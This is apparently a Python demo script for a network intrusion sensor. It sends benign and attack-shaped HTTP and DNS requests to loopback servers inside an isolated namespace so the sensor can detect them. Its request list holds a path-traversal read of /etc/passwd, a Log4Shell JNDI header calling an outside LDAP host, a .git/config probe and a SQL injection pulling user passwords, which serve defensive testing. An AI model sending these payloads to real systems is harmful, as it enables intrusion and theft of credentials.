"""The demo's live part: runs in its own user and network namespace, so that nothing leaves this machine.

A web server and a DNS server answer a few benign and a few attack-shaped requests on the loopback interface, which the
sensor reads through the kernel ring.
"""

from __future__ import annotations

import http.client
import http.server
import json
import socket
import socketserver
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Final

from cli.captures import load_rule_set
from cli.sensor import SensorProcess

MOST_SECONDS: Final = 20.0
_LINGER_S: Final = 0.5
_REQUESTS: Final[tuple[tuple[str, dict[str, str]], ...]] = (
    ("/", {}),
    ("/style.css", {}),
    ("/search?q=weather", {}),
    ("/download?file=../../../../etc/passwd", {}),
    ("/", {"User-Agent": "${jndi:ldap://198.51.100.9:1389/a}"}),
    ("/.git/config", {}),
    ("/index.php?id=1%20UNION%20SELECT%20name,pass%20FROM%20users", {}),
)
_NAMES: Final = ("www.example", "mail.example", "x" * 60 + ".t.example", "abcdefghij234567.onion")


class _Web(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"hello\n"
        self.send_response(200 if "?" not in self.path else 404)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        """Say nothing."""


class _Dns(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        query, sock = self.request
        header = query[:2] + struct.pack(">HHHHH", 0x8180, 1, 1, 0, 0)
        answer = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([192, 0, 2, 1])
        sock.sendto(header + query[12:] + answer, self.client_address)


class Lab:
    """Servers and clients whose traffic the sensor reads."""

    def __init__(self, process: SensorProcess) -> None:
        self._process = process
        self._begun = False

    def on_step(self) -> bool:
        """Begin the traffic once the ring stands, and keep the capture going a little longer than the traffic."""
        if not self._begun:
            self._begun = True
            threading.Thread(target=self._run, daemon=True).start()
        return self._process.on_step()

    def _run(self) -> None:
        try:
            make_traffic()
        finally:
            time.sleep(_LINGER_S)
            self._process.stop.set()


def main(home: str) -> None:
    """Capture while the servers are asked."""
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    process = SensorProcess(Path(home), load_rule_set(()), source="lo", seconds=MOST_SECONDS)
    process.capture("lo", None, "ring", Lab(process).on_step)
    process.end(None)
    print(json.dumps({"words": process.last_words(), "counters": process.loop.counters()}))
    sys.exit(1 if process.problems else 0)


def make_traffic() -> None:
    """Ask the servers a few things."""
    web = http.server.ThreadingHTTPServer(("127.0.0.1", 80), _Web)
    dns = socketserver.UDPServer(("127.0.0.1", 53), _Dns)
    for server in (web, dns):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    for target, headers in _REQUESTS:
        connection = http.client.HTTPConnection("127.0.0.1", 80, timeout=2)
        connection.putrequest("GET", target)
        for name, value in headers.items():
            connection.putheader(name, value)
        connection.endheaders()
        connection.getresponse().read()
        connection.close()
    for number, name in enumerate(_NAMES, 1):
        ask(name, number)


def ask(name: str, number: int) -> None:
    """Ask for a name's address."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    query = struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(query, ("127.0.0.1", 53))
        sock.recv(512)


if __name__ == "__main__":
    main(sys.argv[1])
